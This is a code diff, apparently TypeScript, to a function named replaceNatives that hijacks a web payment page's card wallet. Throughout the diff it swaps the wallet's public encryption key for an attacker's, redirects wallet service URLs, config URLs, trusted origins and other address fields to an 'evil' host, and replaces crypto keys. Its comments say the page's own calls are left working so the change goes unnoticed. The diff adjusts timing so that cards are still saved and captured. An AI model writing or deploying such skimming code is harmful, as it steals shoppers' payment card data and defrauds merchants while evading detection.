@@ -59,16 +59,18 @@ export async function replaceNatives({ natives: replaced, evil, publicKey }: Att
       },
     });
 
-  /** In place: the wallet service of a configuration, its trusted origins, and the wallet's key. */
-  function rewrite<Value>(value: Value, depth = 0): Value {
+  /**
+   * In place: the wallet's key, and in a configuration the wallet service and the trusted origins. Those only before our
+   * script by default: the page, which has its options by then, would refuse its own calls and save no card.
+   */
+  function rewrite<Value>(value: Value, isWhole = isFirst, depth = 0): Value {
     if (!isPlain(value) || depth > 6) return value;
     const found: Record<string, unknown> = value;
     try {
-      // Later, the page would refuse its own calls, so it would not save a card.
-      if (isFirst && found["msName"] === "wallet") found["msBaseUrl"] = `${evil}/api/wallet`;
-      if (isFirst && Array.isArray(found["api"])) found["api"] = [];
       if (typeof found["publicKey"] === "string") found["publicKey"] = publicKey;
-      for (const one of Object.values(found)) rewrite(one, depth + 1);
+      if (isWhole && found["msName"] === "wallet") found["msBaseUrl"] = `${evil}/api/wallet`;
+      if (isWhole && Array.isArray(found["api"])) found["api"] = [];
+      for (const one of Object.values(found)) rewrite(one, isWhole, depth + 1);
     } catch {
       // Frozen.
     }
@@ -83,17 +85,15 @@ export async function replaceNatives({ natives: replaced, evil, publicKey }: Att
   };
   /** The same in a request to the card form, and in everything else that it might read. */
   function rewriteMessage(message: unknown): unknown {
-    const { order } = Object(message) as { order?: Record<string, unknown> };
-    if (!order) return message;
-    rewrite(order);
-    for (const service of (order["configuration"] as { microservices?: object[] })?.microservices ?? [])
-      Object.assign(service, { msBaseUrl: `${evil}/api/wallet` });
+    const given = Object(message) as { order?: Record<string, unknown> };
+    if (!given.order) return message;
+    const order = rewrite(structuredClone(given.order), true);
     if ("options" in order) order["options"] = { configUrl: `${evil}/config`, origins: [evil] };
     for (const [name, value] of Object.entries(order)) {
       if (/url|address$|origin/i.test(name)) order[name] = `${evil}/api/wallet`;
       if (value instanceof CryptoKey) order[name] = theirKey;
     }
-    return message;
+    return { ...given, order };
   }
   /** The page's own calls go where they should, so that the change is not noticed. */
   function sendHome(): void {
